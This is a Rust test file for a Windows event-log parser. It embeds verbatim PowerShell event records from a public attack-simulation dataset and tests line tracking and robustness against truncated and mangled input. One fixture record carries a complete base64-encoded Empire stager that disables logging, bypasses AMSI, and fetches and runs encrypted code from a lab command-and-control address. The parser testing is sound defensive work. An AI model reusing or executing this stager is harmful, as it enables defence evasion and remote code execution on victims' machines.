PowerShell","ExecutionProcessID":0,"Severity":"INFO","Opcode":"Info","EventType":"INFO","ThreadID":0,"Task":8,"EventReceivedTime":"2020-09-04 16:10:07","tags":["mordorDataset"],"port":53221,"@version":"1","@timestamp":"2020-09-04T20:10:07.782Z","Hostname":"WORKSTATION5.theshire.local","host":"wec.internal.cloudapp.net","Keywords":36028797018963968,"SourceModuleName":"eventlog"}"##;

/// NXLog flat JSON: 4103 Payload and ContextInfo.
/// (OTRF/Security-Datasets empire_launcher_vbs, line 1419, verbatim.)
const OTRF_4103: &str = r##"{"EventID":4103,"RecordNumber":1958,"ProviderGuid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","SourceName":"Microsoft-Windows-PowerShell","OpcodeValue":20,"EventTime":"2020-09-04 16:10:00","UserID":"S-1-5-21-2079883792-3656946353-945924832-1104","SeverityValue":2,"ActivityID":"{282F4843-0B7B-0001-3B29-8C8DEB82D601}","Domain":"THESHIRE","Category":"Executing Pipeline","SourceModuleType":"im_msvistalog","Channel":"Microsoft-Windows-PowerShell/Operational","ExecutionProcessID":2316,"AccountType":"User","Severity":"INFO","Opcode":"To be used when operation is just executing a method","EventType":"INFO","ThreadID":4132,"AccountName":"pgustavo","Payload":"CommandInvocation(Get-Random): \"Get-Random\"\r\n","Task":106,"ERROR_EVT_UNRESOLVED":true,"EventReceivedTime":"2020-09-04 16:10:01","tags":["mordorDataset"],"port":53221,"@version":"1","@timestamp":"2020-09-04T20:10:01.636Z","ContextInfo":"        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.18362.752\r\n        Host ID = 39315e7d-5bea-48aa-8ea8-21c983c954a8\r\n        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMAVgBFAHIAUwBJAE8AbgAuAE0AYQBqAE8AUgAgAC0AZwBFACAAMwApAHsAJAA2ADgANgA2AD0AWwByAEUARgBdAC4AQQBTAHMARQBNAGIATABZAC4ARwBlAHQAVABZAFAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAFUAdABpAGwAcwAnACkALgAiAEcARQB0AEYAaQBlAGAATABEACIAKAAnAGMAYQBjAGgAZQBkAEcAcgBvAHUAcABQAG8AbABpAGMAeQBTAGUAdAB0AGkAbgBnAHMAJwAsACcATgAnACsAJwBvAG4AUAB1AGIAbABpAGMALABTAHQAYQB0AGkAYwAnACkAOwBJAGYAKAAkADYAOAA2ADYAKQB7ACQAMQBmAGUANwA9ACQANgA4ADYANgAuAEcAZQB0AFYAYQBMAFUARQAoACQAbgBVAGwATAApADsASQBmACgAJAAxAEYARQA3AFsAJwBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0AKQB7ACQAMQBGAEUANwBbACcAUwBjAHIAaQBwAHQAQgAnACsAJwBsAG8AYwBrAEwAbwBnAGcAaQBuAGcAJwBdAFsAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0APQAwADsAJAAxAEYAZQA3AFsAJwBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnAF0AWwAnAEUAbgBhAGIAbABlAFMAYwByAGkAcAB0AEIAbABvAGMAawBJAG4AdgBvAGMAYQB0AGkAbwBuAEwAbwBnAGcAaQBuAGcAJwBdAD0AMAB9ACQAdgBBAGwAPQBbAEMAbwBsAGwARQBjAHQASQBPAG4AcwAuAEcARQBOAGUAcgBJAEMALgBEAEkAYwBUAEkATwBuAGEAcgBZAFsAUwB0AHIASQBuAGcALABTAFkAcwBUAEUAbQAuAE8AYgBKAEUAYwB0AF0AXQA6ADoAbgBlAHcAKAApADsAJABWAGEAbAAuAEEAZABkACgAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCACcAKwAnAGwAbwBjAGsATABvAGcAZwBpAG4AZwAnACwAMAApADsAJAB2AGEAbAAuAEEAZABkACgAJwBFAG4AYQBiAGwAZQBTAGMAcgBpAHAAdABCAGwAbwBjAGsASQBuAHYAbwBjAGEAdABpAG8AbgBMAG8AZwBnAGkAbgBnACcALAAwACkAOwAkADEARgBFADcAWwAnAEgASwBFAFkAXwBMAE8AQwBBAEwAXwBNAEEAQwBIAEkATgBFAFwAUwBvAGYAdAB3AGEAcgBlAFwAUABvAGwAaQBjAGkAZQBzAFwATQBpAGMAcgBvAHMAbwBmAHQAXABXAGkAbgBkAG8AdwBzAFwAUABvAHcAZQByAFMAaABlAGwAbABcAFMAYwByAGkAcAB0AEIAJwArACcAbABvAGMAawBMAG8AZwBnAGkAbgBnACcAXQA9ACQAVgBhAGwAfQBFAGwAUwBFAHsAWwBTAEMAUgBpAHAAdABCAGwATwBDAGsAXQAuACIARwBlAFQARgBJAEUAYABsAEQAIgAoACcAcwBpAGcAbgBhAHQAdQByAGUAcwAnACwAJwBOACcAKwAnAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMARQBUAFYAYQBsAHUARQAoACQATgBVAEwATAAsACgATgBlAHcALQBPAEIAagBFAGMAVAAgAEMAbwBMAGwAZQBjAHQAaQBvAG4AcwAuAEcAZQBuAEUAUgBJAGMALgBIAGEAUwBIAFMARQB0AFsAUwBUAFIASQBuAGcAXQApACkAfQAkAFIAZQBmAD0AWwBSAGUARgBdAC4AQQBzAHMAZQBNAEIAbABZAC4ARwBFAFQAVAB5AHAARQAoACcAUwB5AHMAdABlAG0ALgBNAGEAbgBhAGcAZQBtAGUAbgB0AC4AQQB1AHQAbwBtAGEAdABpAG8AbgAuAEEAbQBzAGkAJwArACcAVQB0AGkAbABzACcAKQA7ACQAUgBFAGYALgBHAGUAVABGAEkARQBMAGQAKAAnAGEAbQBzAGkASQBuAGkAdABGACcAKwAnAGEAaQBsAGUAZAAnACwAJwBOAG8AbgBQAHUAYgBsAGkAYwAsAFMAdABhAHQAaQBjACcAKQAuAFMAZQBUAFYAYQBMAFUARQAoACQAbgB1AGwATAAsACQAdABSAFUARQApADsAfQA7AFsAUwBZAHMAVABlAG0ALgBOAEUAdAAuAFMARQByAHYAaQBDAGUAUABvAEkATgBUAE0AQQBuAGEARwBFAFIAXQA6ADoARQB4AFAAZQBjAHQAMQAwADAAQwBPAG4AdABpAG4AVQBlAD0AMAA7ACQARgA5ADQARQA9AE4AZQB3AC0ATwBiAEoARQBDAHQAIABTAFkAcwBUAEUATQAuAE4AZQBUAC4AVwBlAGIAQwBMAGkAZQBuAFQAOwAkAHUAPQAnAE0AbwB6AGkAbABsAGEALwA1AC4AMAAgACgAVwBpAG4AZABvAHcAcwAgAE4AVAAgADYALgAxADsAIABXAE8AVwA2ADQAOwAgAFQAcgBpAGQAZQBuAHQALwA3AC4AMAA7ACAAcgB2ADoAMQAxAC4AMAApACAAbABpAGsAZQAgAEcAZQBjAGsAbwAnADsAJABzAGUAcgA9ACQAKABbAFQAZQB4AFQALgBFAG4AQwBPAEQAaQBOAGcAXQA6ADoAVQBOAEkAYwBPAEQARQAuAEcAZQB0AFMAdAByAGkATgBHACgAWwBDAE8AbgB2AEUAUgBUAF0AOgA6AEYAUgBvAE0AQgBBAHMARQA2ADQAUwB0AHIAaQBOAGcAKAAnAGEAQQBCADAAQQBIAFEAQQBjAEEAQQA2AEEAQwA4AEEATAB3AEEAeABBAEQAQQBBAEwAZwBBAHgAQQBEAEEAQQBMAGcAQQB4AEEARABBAEEATABnAEEAMQBBAEEAPQA9ACcAKQApACkAOwAkAHQAPQAnAC8AbgBlAHcAcwAuAHAAaABwACcAOwAkAGYAOQA0AEUALgBIAEUAYQBkAGUAcgBTAC4AQQBEAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACQAdQApADsAJABmADkANABlAC4AUABSAE8AeABZAD0AWwBTAFkAcwB0AGUATQAuAE4AZQB0AC4AVwBFAGIAUgBFAFEAdQBFAHMAdABdADoAOgBEAGUARgBBAFUATAB0AFcARQBCAFAAUgBPAFgAeQA7ACQARgA5ADQARQAuAFAAcgBPAFgAWQAuAEMAUgBlAEQAZQBuAHQASQBhAEwAUwAgAD0AIABbAFMAWQBTAFQAZQBNAC4ATgBlAHQALgBDAHIARQBkAGUATgBUAGkAQQBsAEMAQQBjAGgAZQBdADoAOgBEAGUAZgBBAHUAbAB0AE4ARQB0AHcATwBSAGsAQwByAGUARABFAE4AdABpAGEAbABTADsAJABTAGMAcgBpAHAAdAA6AFAAcgBvAHgAeQAgAD0AIAAkAGYAOQA0AGUALgBQAHIAbwB4AHkAOwAkAEsAPQBbAFMAeQBTAHQAZQBtAC4AVABlAHgAdAAuAEUAbgBDAG8AZABpAG4AZwBdADoAOgBBAFMAQwBJAEkALgBHAGUAdABCAHkAdABlAFMAKAAnADMAKwBZAG0AYwBuACkAcwAwAHIAOAA9ACMAZAB4AFoANgA1ADsAfQBPACUAfABMAGwASABpAH4AZgB7AHoAQgAnACkAOwAkAFIAPQB7ACQARAAsACQASwA9ACQAQQByAGcAcwA7ACQAUwA9ADAALgAuADIANQA1ADsAMAAuAC4AMgA1ADUAfAAlAHsAJABKAD0AKAAkAEoAKwAkAFMAWwAkAF8AXQArACQASwBbACQAXwAlACQASwAuAEMATwBVAG4AdABdACkAJQAyADUANgA7ACQAUwBbACQAXwBdACwAJABTAFsAJABKAF0APQAkAFMAWwAkAEoAXQAsACQAUwBbACQAXwBdAH0AOwAkAEQAfAAlAHsAJABJAD0AKAAkAEkAKwAxACkAJQAyADUANgA7ACQASAA9ACgAJABIACsAJABTAFsAJABJAF0AKQAlADIANQA2ADsAJABTAFsAJABJAF0ALAAkAFMAWwAkAEgAXQA9ACQAUwBbACQASABdACwAJABTAFsAJABJAF0AOwAkAF8ALQBiAFgAbwByACQAUwBbACgAJABTAFsAJABJAF0AKwAkAFMAWwAkAEgAXQApACUAMgA1ADYAXQB9AH0AOwAkAEYAOQA0AEUALgBIAGUAQQBEAGUAUgBTAC4AQQBkAGQAKAAiAEMAbwBvAGsAaQBlACIALAAiAEoAUQBPAEgAdQBEAEcAcgBOAEwARwBlAE8AUAB5AGwAPQBFADIASAB6AGoANgAxAGwAdQBpADcAaABXAE0AWQBRAGUANgAzAFcAVQB3AHMAMAB6AFoAOAA9ACIAKQA7ACQAZABhAHQAQQA9ACQAZgA5ADQARQAuAEQATwBXAG4ATABvAEEARABEAGEAdABhACgAJABzAGUAUgArACQAdAApADsAJABJAHYAPQAkAGQAYQB0AGEAWwAwAC4ALgAzAF0AOwAkAGQAQQB0AEEAPQAkAEQAYQB0AGEAWwA0AC4ALgAkAGQAYQBUAEEALgBsAGUAbgBHAFQASABdADsALQBqAG8ASQBOAFsAQwBIAEEAcgBbAF0AXQAoACYAIAAkAFIAIAAkAGQAYQBUAEEAIAAoACQASQBWACsAJABLACkAKQB8AEkARQBYAA==\r\n        Engine Version = 5.1.18362.752\r\n        Runspace ID = 2f526b39-34e5-4958-8786-a61c85685778\r\n        Pipeline ID = 1\r\n        Command Name = Get-Random\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n        Sequence Number = 36\r\n        User = THESHIRE\\pgustavo\r\n        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n","Hostname":"WORKSTATION5.theshire.local","host":"wec.internal.cloudapp.net","Keywords":0,"Version":1,"SourceModuleName":"eventlog"}"##;

#[test]
fn xml_line_parser_feeds_lines() {
    // Follow mode: the lines of a wevtutil stream, fed one by one (events span lines
    // through their multi-line data, and share lines).
    let first = wevtutil(&[BITS_4104]);
    let rest = wevtutil(&[BITS_800, BITS_4103]);
    let doc = format!("{first}\n{rest}\n");
    let line_of = |needle: &str| 5 + doc[..doc.find(needle).unwrap()].matches('\n').count() as u64;
    let mut p = WinXmlParser::new(name());
    let mut sink = Collect::default();
    for (i, line) in doc.lines().enumerate() {
        crate::sources::LineParser::line(&mut p, line.as_bytes(), 5 + i as u64, &mut sink);
    }
    crate::sources::LineParser::finish(&mut p, &mut sink);
    assert!(sink.errors.is_empty(), "{:?}", sink.errors);
    let got: Vec<(u32, Position)> = scripts(&sink)
        .iter()
        .map(|s| (s.event_id, s.provenance.position))
        .collect();
    assert_eq!(
        got,
        [
            (4104, Position::Line(5)),
            (800, Position::Line(6)),
            (4103, Position::Line(line_of("<EventID>4103"))),
        ]
    );
}

#[test]
fn truncated_and_mangled_records_never_panic() {
    // Every prefix of a verbatim record, and the record with bytes flipped, through
    // both parsers: errors at most.
    let xml_doc = wevtutil(&[BITS_800, BITS_4104]);
    let json_doc = format!("{OTRF_4104}\n{OTRF_800}");
    for end in (0..xml_doc.len())
        .filter(|&i| xml_doc.is_char_boundary(i))
        .step_by(7)
    {
        let _ = xml(&xml_doc[..end], 64);
    }
    for end in (0..json_doc.len())
        .filter(|&i| json_doc.is_char_boundary(i))
        .step_by(11)
    {
        let _ = json(&json_doc[..end], 64);
    }
    let mut seed = 0x9E37_79B9_7F4A_7C15u64;
    for _ in 0..300 {
        let mut x = xml_doc.clone().into_bytes();
        let mut j = json_doc.clone().into_bytes();
        for _ in 0..8 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let (i, b) = ((seed >> 8) as usize, seed as u8);
            let xl = x.len();
            x[i % xl] = b;
            let jl = j.len();
            j[i % jl] = b;
        }
        let mut sink = Collect::default();
        read_xml(&name(), Box::new(Cursor::new(x)), &mut sink);
        read_json(&name(), Box::new(Cursor::new(j)), &mut sink);
    }
}
